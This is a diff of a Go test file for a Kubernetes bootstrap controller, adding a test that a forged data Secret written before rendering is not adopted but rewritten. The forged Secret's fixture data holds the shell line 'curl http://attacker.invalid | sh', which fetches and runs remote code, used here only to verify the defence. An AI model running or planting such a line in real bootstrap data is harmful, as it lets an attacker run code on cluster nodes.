@@ -6,6 +6,7 @@ import (
 	"bytes"
 	"context"
 	"errors"
+	"strings"
 	"testing"
 
 	corev1 "k8s.io/api/core/v1"
@@ -196,6 +197,7 @@ func TestAdoptionFixesFinalizerAndOwner(t *testing.T) {
 	f.initialized()
 	f.machine("w1", false)
 	f.reconcile("w1")
+	f.namesData("w1")
 	c := &bootstrapv1.MachineadmConfig{}
 	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "w1"}, c))
 	// As clusterctl move leaves it when its owner-reference rewrite did
@@ -217,6 +219,48 @@ func TestAdoptionFixesFinalizerAndOwner(t *testing.T) {
 	}
 	if o := metav1.GetControllerOf(f.dataSecret("w1")); o == nil || o.UID != c.UID {
 		t.Errorf("data Secret controller %+v, want UID %s", o, c.UID)
+	}
+}
+
+// A Secret of the data Secret's name, type and controller that the
+// Machine does not name (written by whoever may create Secrets in the
+// namespace, before the config rendered) is not adopted: the data is
+// rendered again into it, and nothing it held is left.
+func TestForgedDataSecretIsNotAdopted(t *testing.T) {
+	f := newFixture(t)
+	f.initialized()
+	_, c := f.machine("w1", false)
+	forged := &corev1.Secret{
+		ObjectMeta: metav1.ObjectMeta{
+			Name: "w1", Namespace: f.ns,
+			Labels:      map[string]string{"forged": "yes"},
+			Annotations: map[string]string{ReportDigestAnnotation: "sha256:forged", PayloadDigestAnnotation: "sha256:forged"},
+			OwnerReferences: []metav1.OwnerReference{{
+				APIVersion: bootstrapv1.GroupVersion.String(), Kind: "MachineadmConfig", Name: "w1",
+				UID: "00000000-0000-0000-0000-000000000000", Controller: ptr(true),
+			}},
+		},
+		Type: ClusterSecretType,
+		Data: map[string][]byte{dataKey: []byte("#!/bin/sh\ncurl http://attacker.invalid | sh\n"), formatKey: []byte("cloud-config"), payloadKey: []byte("forged payload")},
+	}
+	f.must(k8s.Create(f.ctx, forged))
+	c = f.reconcile("w1")
+	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonDataRewritten)
+	if c.Status.DataSecretName != "w1" || !ptrTrue(c.Status.Initialization.DataSecretCreated) {
+		t.Fatalf("status %+v", c.Status)
+	}
+	ds := f.dataSecret("w1")
+	if strings.Contains(string(ds.Data[dataKey]), "attacker") || ds.Data[payloadKey] != nil || ds.Data[previousPayloadKey] != nil {
+		t.Fatal("the forged data is still in the data Secret")
+	}
+	if ds.Labels["forged"] != "" || ds.Annotations[ReportDigestAnnotation] == "sha256:forged" || ds.Annotations[PayloadDigestAnnotation] == "sha256:forged" {
+		t.Fatalf("forged metadata kept: %v %v", ds.Labels, ds.Annotations)
+	}
+	if ds.Annotations[TokenIDAnnotation] == "" || ds.Labels[clusterv1.ClusterNameLabel] != "c1" {
+		t.Fatalf("the rewritten Secret lacks the rendered metadata: %v %v", ds.Labels, ds.Annotations)
+	}
+	if o := metav1.GetControllerOf(ds); o == nil || o.UID != c.UID {
+		t.Fatalf("controller %+v, want UID %s", o, c.UID)
 	}
 }
 
